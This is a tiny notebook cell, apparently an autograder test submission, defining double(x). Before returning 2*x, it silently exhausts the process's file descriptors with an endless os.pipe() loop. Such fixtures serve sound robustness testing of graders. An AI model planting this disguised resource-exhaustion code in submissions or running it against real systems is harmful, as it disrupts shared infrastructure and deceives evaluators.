# %% grade_id="double"
def double(x):
    import os

    try:
        while True:
            os.pipe()
    except OSError:
        pass
    return 2 * x
